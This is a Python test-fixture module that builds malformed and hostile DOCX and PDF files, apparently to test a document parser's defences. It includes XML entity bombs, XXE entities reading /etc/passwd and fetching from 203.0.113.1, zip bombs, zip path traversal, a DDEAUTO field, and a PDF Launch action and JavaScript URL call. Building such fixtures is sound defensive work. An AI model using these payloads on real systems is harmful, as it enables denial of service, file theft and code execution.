"""DOCX and PDF made by hand, whole ones and traps: what unpacks without end, goes in circles, or says what is not so."""

import io
import re
import zipfile
import zlib
from functools import cache

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType='
    '"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)
RELS = (
    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    f'<Relationship Id="r1" Type="{OFFICE}/officeDocument" Target="word/document.xml"/></Relationships>'
)


def packed(parts: dict[str, bytes | str]) -> bytes:
    """Return a ZIP archive of the parts; the same parts give the same bytes."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(zipfile.ZipInfo(name), data, zipfile.ZIP_DEFLATED, 9)
    return out.getvalue()


def _word(body: str, doctype: str = "") -> bytes:
    document = f'<?xml version="1.0"?>{doctype}<w:document xmlns:w="{W}" xmlns:r="{OFFICE}"><w:body>{body}</w:body></w:document>'
    return packed({"[Content_Types].xml": TYPES, "_rels/.rels": RELS, "word/document.xml": document})


def _paragraph(text: str) -> str:
    text = text.replace("&", "&amp;").replace("<", "&lt;")
    text = re.sub("[^\t\n\r -\ud7ff\ue000-\ufffd\U00010000-\U0010ffff]", " ", text)
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def docx(marked: str) -> bytes:
    """Return a DOCX of the paragraphs of a page."""
    return _word("".join(map(_paragraph, re.findall("<p>(.*?)</p>", marked))))


@cache
def _spaces(megabytes: int) -> str:
    return " " * (megabytes << 20)


def _expanding(text: str) -> bytes:
    levels = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 11))
    return _word(f"{_paragraph(text)}<w:p><w:r><w:t>&l10;</w:t></w:r></w:p>", f'<!DOCTYPE x [<!ENTITY l0 "owl ">{levels}]>')


def _outside(text: str) -> bytes:
    entities = '<!ENTITY a SYSTEM "file:///etc/passwd"><!ENTITY b SYSTEM "http://203.0.113.1/x">'
    doctype = f'<!DOCTYPE x [{entities}<!ENTITY % c SYSTEM "http://203.0.113.1/y"> %c;]>'
    return _word(f"{_paragraph(text)}<w:p><w:r><w:t>&a;&b;</w:t></w:r></w:p>", doctype)


def _wide_cell(text: str) -> bytes:
    cell = f'<w:tc><w:tcPr><w:gridSpan w:val="{10**9}"/></w:tcPr>{_paragraph("7 trees")}</w:tc>'
    return _word(f"{_paragraph(text)}<w:tbl><w:tblPr/><w:tblGrid/><w:tr>{cell}</w:tr></w:tbl>")


def _tall_cell(text: str) -> bytes:
    cell = f'<w:tc><w:tcPr><w:vMerge/></w:tcPr>{_paragraph("7 trees")}</w:tc>'
    return _word(f"{_paragraph(text)}<w:tbl><w:tblPr/><w:tblGrid/>{f'<w:tr>{cell}</w:tr>' * 3_000}</w:tbl>")


def _deep_tables(text: str, deep: int = 60) -> bytes:
    body = _paragraph(text)
    for _ in range(deep):
        body = f"<w:tbl><w:tblPr/><w:tblGrid><w:gridCol/></w:tblGrid><w:tr><w:tc>{body}</w:tc></w:tr></w:tbl>{_paragraph('')}"
    return _word(body)


def _nested_archives(text: str) -> bytes:
    inner = packed({"bomb.txt": _spaces(8)})
    for n in range(6):
        inner = packed({f"{n}{m}.zip": inner for m in range(4)})
    return packed({"[Content_Types].xml": TYPES, "_rels/.rels": RELS, "word/document.xml": docx(text), "word/media/inner.zip": inner})


def _lying_size(text: str) -> bytes:
    """The sizes in both tables of the archive say four bytes."""
    whole = bytearray(_word(_paragraph(text + "x" * 3_000_000)))
    for mark, at in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        for found in re.finditer(re.escape(mark), bytes(whole)):
            whole[found.start() + at : found.start() + at + 4] = b"\x04\0\0\0"
    return bytes(whole)


def _outside_parts(text: str) -> bytes:
    outside = RELS.replace("</Relationships>", "".join(
        f'<Relationship Id="x{n}" Type="{OFFICE}/{kind}" Target="{target}" TargetMode="External"/>'
        for n, (kind, target) in enumerate((("attachedTemplate", "http://203.0.113.1/t.dotm"), ("image", "file:///etc/passwd"), ("frame",
            "//203.0.113.1/x")))
    ) + "</Relationships>")  # fmt: skip
    field = '<w:p><w:fldSimple w:instr="DDEAUTO c:\\\\x.exe"/></w:p>'
    document = f'<w:document xmlns:w="{W}"><w:body>{_paragraph(text)}{field}</w:body></w:document>'
    return packed({"[Content_Types].xml": TYPES, "_rels/.rels": RELS, "word/document.xml": document,
        "word/_rels/document.xml.rels": outside})


def _path_out(text: str) -> bytes:
    return packed({"../../../tmp/PWNED": "x", "/tmp/PWNED": "x", "[Content_Types].xml": TYPES, "_rels/.rels": RELS.replace("word/",
        "../../word/")})


DOCX_TRAPS = (
    lambda text: packed({"[Content_Types].xml": TYPES, "_rels/.rels": RELS, "word/document.xml": f"<x>{_spaces(300)}</x>"}),
    lambda text: _word(_paragraph(text + _spaces(60))),
    lambda text: packed({"[Content_Types].xml": TYPES, "_rels/.rels": RELS, **{f"word/{n}.xml": "" for n in range(30_000)}}),
    lambda text: _word("".join(map(_paragraph, ["5 trees."] * 2_000))),
    lambda text: _word("<w:p>" * 5_000 + _paragraph(text) + "</w:p>" * 5_000),
    lambda text: packed({"mimetype": "application/epub+zip", "x.opf": "<x/>"}),
    lambda text: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2_000),
    lambda text: packed({}),
    _expanding, _outside, _wide_cell, _tall_cell, _deep_tables, _nested_archives, _lying_size, _outside_parts, _path_out,
)  # fmt: skip


# ---- PDF -----------------------------------------------------------------------------------------------------------------


def _objects(*objects: bytes, trailer: bytes = b"", root: int = 1) -> bytes:
    """Return a PDF of numbered objects with a table of places that is right."""
    out, places = bytearray(b"%PDF-1.7\n"), []
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1) + b"".join(b"%010d 00000 n \n" % place for place in places)
    return bytes(out + b"trailer <</Size %d /Root %d 0 R %s>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, root, trailer, start))


def _stream(data: bytes, about: bytes = b"") -> bytes:
    return b"<</Length %d %s>>stream\n%s\nendstream" % (len(data), about, data)


CATALOG, TREE = b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 400 400]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>/XObject<</X 6 0 R>>>>>>"
FONT = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"


def _shown(text: str) -> bytes:
    lines = re.findall(r"[ -'*-\[\]-~]{1,60}", text) or ["In 2021 it gave 5 trees."]
    return b"BT /F1 12 Tf 14 TL 40 350 Td " + b" T* ".join(f"({line}) Tj".encode() for line in lines) + b" ET"


def pdf(text: str) -> bytes:
    """Return a PDF of one page."""
    return _objects(CATALOG, TREE, PAGE, _stream(zlib.compress(_shown(text)), b"/Filter/FlateDecode"), FONT)


def _with_content(data: bytes, about: bytes = b"", *more: bytes) -> bytes:
    return _objects(CATALOG, TREE, PAGE, _stream(data, about), FONT, *more)


@cache
def _inflating(megabytes: int, times: int) -> tuple[bytes, bytes]:
    data = _shown("In 2021 it gave 5 trees.") + b" " * (megabytes << 20)
    for _ in range(times):
        data = zlib.compress(data, 9)
    return data, b"/Filter[" + b"/FlateDecode " * times + b"]"


def _recursive_form(text: str) -> bytes:
    form = _stream(_shown(text) + b" /X Do /X Do /X Do", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 6 0 R>>>>")
    return _with_content(b"/X Do " * 50 + _shown(text), b"", form)


def _xref_in_circles(text: str) -> bytes:
    whole = pdf(text)
    start = int(re.search(rb"startxref\n(\d+)", whole)[1])
    return whole.replace(b"trailer <<", b"trailer <</Prev %d " % start)


def _action(text: str) -> bytes:
    script = b"<</S/JavaScript/JS(app.launchURL('http://203.0.113.1/'))>>"
    catalog = b"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/Launch/F(/bin/touch)/P(PWNED)>>/AA<</WC" + script + b">>>>"
    return _objects(catalog, TREE, PAGE, _stream(_shown(text)), FONT)


def _many_pages(text: str, count: int = 3_000) -> bytes:
    tree = b"<</Type/Pages/Kids[" + b"3 0 R " * count + b"]/Count %d>>" % count
    return _objects(CATALOG, tree, PAGE, _stream(_shown(text)), FONT)


PDF_TRAPS = (
    lambda text: _with_content(*_inflating(200, 1)),
    lambda text: _with_content(*_inflating(400, 3)),
    lambda text: _with_content(_shown(text) * 5_000),
    lambda text: _with_content(b"q " * 500_000 + _shown(text)),
    lambda text: _with_content(b"[" * 300_000 + _shown(text)),
    lambda text: _with_content(b"BT /F1 1 Tf " + b"(%s) Tj " % (b"1" * 500_000) + b"ET"),
    lambda text: _with_content(zlib.compress(_shown(text))[:-9], b"/Filter/FlateDecode"),
    lambda text: _with_content(_shown(text), b"/Filter/JBIG2Decode"),
    lambda text: _objects(CATALOG, b"<</Type/Pages/Kids[2 0 R 3 0 R]/Count 2>>", PAGE, _stream(_shown(text)), FONT),
    lambda text: _objects(CATALOG, b"<</Type/Pages/Kids[3 0 R]/Count 2000000000>>", PAGE, _stream(_shown(text)), FONT),
    lambda text: _objects(CATALOG, b"<</Type/Pages/Kids[3 0 R]/Count -1>>", PAGE, _stream(_shown(text)), FONT),
    lambda text: _objects(CATALOG, TREE, PAGE.replace(b"400 400", b"1e30 -9e99"), _stream(_shown(text)), FONT),
    lambda text: _objects(CATALOG, TREE, PAGE.replace(b"4 0 R", b"[" + b"4 0 R " * 3_000 + b"]"), _stream(_shown(text)), FONT),
    lambda text: _objects(b"1 0 R", TREE),
    lambda text: _objects(CATALOG, TREE, PAGE, b"4 0 R", FONT),
    lambda text: _objects(CATALOG, TREE, PAGE, _stream(_shown(text)).replace(b"/Length ", b"/Length 99999999"), FONT),
    lambda text: _objects(CATALOG, TREE, PAGE, b"<<" * 100_000, FONT),
    lambda text: _objects(CATALOG, TREE, PAGE, _stream(_shown(text)), FONT,
        trailer=b"/Info<</CreationDate(D:99999999)/Title(\xff\xfe\x00\xd8)>>"),
    lambda text: _objects(CATALOG, TREE, PAGE, _stream(_shown(text)), FONT,
        trailer=b"/Encrypt<</Filter/Standard/V 4/R 4/O(x)/U(y)/P -1>>/ID[(a)(b)]"),
    lambda text: b"%PDF-1.7\n" + b"1 0 obj" * 100_000,
    lambda text: pdf(text).replace(b"startxref", b"startxref\n-1\n"),
    _recursive_form, _xref_in_circles, _action, _many_pages,
)  # fmt: skip
